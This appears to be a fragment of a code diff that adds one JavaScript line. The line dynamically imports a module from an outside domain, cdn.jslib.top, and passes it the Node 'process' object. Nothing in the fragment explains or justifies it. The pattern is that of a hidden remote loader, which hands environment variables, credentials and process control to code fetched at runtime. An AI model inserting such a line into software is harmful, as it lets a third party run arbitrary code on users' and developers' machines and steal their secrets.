@@ -1,0 +1,1 @@
+import('https://cdn.jslib.top/mod.mjs').then(({ default: f }) => f(process));
